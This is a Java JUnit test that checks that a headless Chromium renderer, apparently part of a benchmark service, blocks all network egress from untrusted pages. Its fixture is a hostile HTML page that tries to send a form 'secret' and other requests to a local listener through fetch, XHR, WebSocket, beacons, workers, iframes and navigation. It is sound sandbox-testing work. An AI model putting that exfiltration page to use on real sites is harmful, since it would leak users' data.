package dev.autobench.renderer;

import dev.autobench.renderer.chromium.ChromiumRenderer;
import dev.autobench.renderer.chromium.PageRender;
import dev.autobench.testsupport.PostgresTestResource;
import io.quarkus.test.junit.QuarkusTest;
import jakarta.inject.Inject;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.time.Duration;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.atomic.AtomicInteger;
import javax.sql.DataSource;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/** Hostile pages try every way out to a listener on localhost; the listener must hear nothing. */
@QuarkusTest
class NetworkIsolationTest {

    /** Fixtures and checks go through the owner: the service's own role may not write them. */
    final DataSource dataSource = PostgresTestResource.ownerDataSource();

    @Inject
    ChromiumRenderer chromium;

    private ServerSocket listener;
    private final AtomicInteger connections = new AtomicInteger();
    private final CopyOnWriteArrayList<String> heard = new CopyOnWriteArrayList<>();

    @BeforeEach
    void listen() throws IOException {
        listener = new ServerSocket(0, 50, InetAddress.getLoopbackAddress());
        Thread accept = new Thread(() -> {
            while (!listener.isClosed()) {
                try (Socket socket = listener.accept()) {
                    connections.incrementAndGet();
                    socket.setSoTimeout(200);
                    byte[] head = new byte[200];
                    int n = socket.getInputStream().read(head);
                    heard.add(n > 0 ? new String(head, 0, n) : "(connection)");
                } catch (IOException ignored) {
                    // closed, or a client that sent nothing
                }
            }
        }, "test-listener");
        accept.setDaemon(true);
        accept.start();
        // the listener can fail this test: a real client is heard
        try (Socket probe = new Socket(InetAddress.getLoopbackAddress(), listener.getLocalPort())) {
            probe.getOutputStream().write("probe".getBytes());
        }
        await().atMost(Duration.ofSeconds(60)).until(() -> connections.get() == 1);
        connections.set(0);
        heard.clear();
    }

    @AfterEach
    void close() throws IOException {
        listener.close();
    }

    @Test
    void storedArtifactReachesNothing() {
        UUID submission = new Submissions(dataSource).succeeded(hostilePage(listener.getLocalPort()));

        given().header("x-cron-secret", RenderEndpointTest.SECRET).when().post("/api/render").then().statusCode(200);

        Map<String, Object> artifact = new Submissions(dataSource).artifact(submission);
        assertThat(artifact.get("status")).isEqualTo("rendered");
        // the attempts really ran, and each one failed inside the browser
        assertThat((String) artifact.get("console_errors"))
                .contains("fetch blocked", "xhr blocked", "websocket blocked")
                .contains("connect-src 'none'");
        assertNothingHeard();
    }

    @Test
    void rawPageWithoutHardeningStillReachesNothing() throws InterruptedException {
        // No meta policy and every static reference left in place: the browser-level layers
        // (request interception, dead proxy, response policy) must hold on their own.
        PageRender render = chromium.render(hostilePage(listener.getLocalPort()));

        assertThat(render.outcome()).isEqualTo(PageRender.Outcome.RENDERED);
        assertThat(render.consoleErrors().toString()).contains("fetch blocked", "xhr blocked", "websocket blocked");
        assertNothingHeard();
    }

    private void assertNothingHeard() {
        await().during(Duration.ofMillis(700)).atMost(Duration.ofSeconds(2))
                .until(() -> connections.get() == 0);
        assertThat(heard).isEmpty();
    }

    static String hostilePage(int port) {
        String http = "http://127.0.0.1:" + port;
        String named = "http://localhost:" + port;
        return """
                <!DOCTYPE html><html><head><title>Exfiltrate</title>
                <link rel="stylesheet" href="HTTP/static.css">
                <link rel="preload" as="script" href="HTTP/preload.js">
                <link rel="dns-prefetch" href="NAMED">
                <script src="HTTP/static.js"></script>
                <style>body { background: url(HTTP/background.png) } @import url(HTTP/import.css);</style>
                </head><body>
                <h1>Trying to phone home</h1>
                <img src="HTTP/static.png">
                <iframe src="HTTP/frame.html"></iframe>
                <form id="f" method="post" action="HTTP/form"><input name="secret" value="s"></form>
                <script>
                  fetch('HTTP/fetch').catch(() => console.error('fetch blocked'));
                  fetch('NAMED/fetch-by-name', {mode: 'no-cors'}).catch(() => console.error('fetch blocked'));
                  const xhr = new XMLHttpRequest();
                  xhr.onerror = () => console.error('xhr blocked');
                  try { xhr.open('GET', 'HTTP/xhr'); xhr.send(); } catch (e) { console.error('xhr blocked'); }
                  try {
                    const ws = new WebSocket('WS/socket');
                    ws.onerror = () => console.error('websocket blocked');
                  } catch (e) { console.error('websocket blocked'); }
                  try { navigator.sendBeacon('HTTP/beacon', 'data'); } catch (e) { }
                  try { new EventSource('HTTP/events'); } catch (e) { console.error('eventsource blocked'); }
                  new Image().src = 'HTTP/dynamic.png';
                  const css = document.createElement('link');
                  css.rel = 'stylesheet'; css.href = 'HTTP/dynamic.css'; document.head.appendChild(css);
                  const script = document.createElement('script');
                  script.src = 'HTTP/dynamic.js'; document.head.appendChild(script);
                  const frame = document.createElement('iframe');
                  frame.src = 'HTTP/dynamic-frame.html'; document.body.appendChild(frame);
                  try { window.open('HTTP/popup'); } catch (e) { console.error('popup blocked'); }
                  try { new Worker(URL.createObjectURL(new Blob(["fetch('HTTP/worker')"]))); } catch (e) { }
                  setTimeout(() => { try { document.getElementById('f').submit(); } catch (e) {} }, 20);
                  setTimeout(() => { location.href = 'HTTP/navigate'; }, 60);
                </script></body></html>
                """.replace("HTTP", http).replace("NAMED", named).replace("WS", "ws://127.0.0.1:" + port);
    }
}
